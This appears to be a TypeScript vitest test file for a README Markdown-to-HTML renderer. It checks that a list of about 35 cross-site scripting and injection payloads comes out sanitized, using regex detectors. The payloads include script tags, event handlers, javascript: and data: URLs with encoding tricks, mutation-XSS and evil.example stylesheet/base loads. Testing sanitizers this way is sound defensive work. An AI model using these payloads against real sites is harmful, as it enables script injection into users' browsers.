import { expect, test } from 'vitest';
import { renderReadme } from './readme.ts';

const render = (text: string) =>
  renderReadme(text, 'test', (path) =>
    path === 'img/图.png' ? '/files/img/%E5%9B%BE.png' : undefined,
  );

test('Markdown becomes HTML', () => {
  expect(render('# Title\n\n**bold** `code`\n\n| a | b |\n|---|---|\n| 1 | 2 |')).toBe(
    '<h1>Title</h1>\n<p><strong>bold</strong> <code>code</code></p>\n<table>\n<thead>\n<tr>\n<th>a</th>\n<th>b</th>\n</tr>\n</thead>\n<tbody>\n<tr>\n<td>1</td>\n<td>2</td>\n</tr>\n</tbody>\n</table>',
  );
});

test('links are not followed, images come from the web or from own files', () => {
  expect(render('[a](https://example.cn/?q=1&b=2)')).toBe(
    '<p><a href="https://example.cn/?q=1&amp;b=2" rel="nofollow noopener noreferrer ugc">a</a></p>',
  );
  expect(render('![图](./img/%E5%9B%BE.png)')).toBe(
    '<p><img src="/files/img/%E5%9B%BE.png?embedded" alt="图" loading="lazy" referrerpolicy="no-referrer" /></p>',
  );
  expect(render('![x](missing.png)')).toBe('<p></p>');
});

/** Ways in which README files have carried scripts; none may leave a handle in our origin. */
const attacks = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=http://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+">',
  '<svg onload=alert(1)><circle/></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\u0000script:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="\\\\evil.example">x</a>',
  '<a href="/api/v1/me" target="_blank" onclick="alert(1)">x</a>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="x.swf"></object><embed src="x.swf">',
  '<form action="/api/auth/sign-out" method="post"><button>x</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<style>@import "http://evil.example";</style><p style="background:url(javascript:alert(1))">x</p>',
  '<link rel=stylesheet href=http://evil.example/x.css><base href="http://evil.example/">',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<details ontoggle=alert(1) open>x</details>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><script>alert(1)</script></template>',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<img src="https://a.example/x" srcset="javascript:alert(1)" style="x" class="y" id="z">',
  '`</code><script>alert(1)</script>`',
  '```html\n<script>alert(1)</script>\n```',
  '<!--><script>alert(1)</script>-->',
  '<a href="https://x.example" id="__proto__" name="body">x</a>',
];

const forbiddenTag =
  /<\/?(script|style|svg|math|iframe|object|embed|form|input|button|link|base|meta|template|textarea|noscript)\b/i;
/** Inside a tag: a handler, a style, an identifier, or an address other than http(s), mailto, anchor, own file. */
const forbiddenAttribute = /<[^>]*\s(on\w+|style|id|name|class|srcset|target|srcdoc|action)\s*=/i;
const badAddress = /<[^>]*\s(href|src)="(?!https?:\/\/|mailto:|#|\/files\/)/i;

test.each(attacks)('%j leaves nothing that runs', (attack) => {
  const html = render(attack);
  expect([forbiddenTag.test(html), forbiddenAttribute.test(html), badAddress.test(html)]).toEqual([
    false,
    false,
    false,
  ]);
});

test('deep nesting ends in bounded time', () => {
  const started = performance.now();
  const html = render(`${'<blockquote>'.repeat(20_000)}x`);
  expect(html.length).toBeLessThan(200_000);
  expect(performance.now() - started).toBeLessThan(5_000);
});
